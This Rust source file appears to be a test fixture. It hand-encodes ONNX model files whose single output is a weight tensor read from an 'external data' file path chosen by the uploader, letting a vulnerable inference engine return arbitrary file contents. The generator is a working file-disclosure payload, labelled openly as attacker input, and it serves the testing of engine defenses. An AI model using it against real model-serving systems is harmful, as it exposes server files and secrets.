//! Hand-encoded ONNX models an attacker would upload: a graph whose only output is an
//! initializer kept in an "external" file named by the model itself. An engine that honours
//! the reference answers a query with that file's bytes.

/// A protobuf under construction (only what these models need).
#[derive(Default)]
struct Proto(Vec<u8>);

impl Proto {
    fn varint(&mut self, mut v: u64) {
        loop {
            let byte = (v & 0x7f) as u8;
            v >>= 7;
            if v == 0 {
                self.0.push(byte);
                return;
            }
            self.0.push(byte | 0x80);
        }
    }

    fn num(mut self, field: u64, value: u64) -> Self {
        self.varint(field << 3);
        self.varint(value);
        self
    }

    fn bytes(mut self, field: u64, body: &[u8]) -> Self {
        self.varint(field << 3 | 2);
        self.varint(body.len() as u64);
        self.0.extend_from_slice(body);
        self
    }

    fn text(self, field: u64, text: &str) -> Self {
        self.bytes(field, text.as_bytes())
    }

    fn msg(self, field: u64, body: Proto) -> Self {
        self.bytes(field, &body.0)
    }
}

/// ONNX's element type number for UINT8.
const UINT8: u64 = 2;

/// A model `y = Identity(w)` where `w` is `length` UINT8 values read from the external
/// file `location` (relative to wherever the engine resolves it).
pub fn external_data_model(location: &str, length: u64) -> Vec<u8> {
    let entry = |key: &str, value: &str| Proto::default().text(1, key).text(2, value);
    let weights = Proto::default()
        .num(1, length)
        .num(2, UINT8)
        .text(8, "w")
        .msg(13, entry("location", location))
        .msg(13, entry("offset", "0"))
        .msg(13, entry("length", &length.to_string()))
        .num(14, 1);
    let node = Proto::default()
        .text(1, "w")
        .text(2, "y")
        .text(3, "leak")
        .text(4, "Identity");
    let shape = Proto::default().msg(1, Proto::default().num(1, length));
    let tensor_type = Proto::default().num(1, UINT8).msg(2, shape);
    let output = Proto::default()
        .text(1, "y")
        .msg(2, Proto::default().msg(1, tensor_type));
    let graph = Proto::default()
        .msg(1, node)
        .text(2, "leak")
        .msg(5, weights)
        .msg(12, output);
    Proto::default()
        .num(1, 8)
        .text(2, "attacker")
        .msg(7, graph)
        .msg(8, Proto::default().text(1, "").num(2, 13))
        .0
}
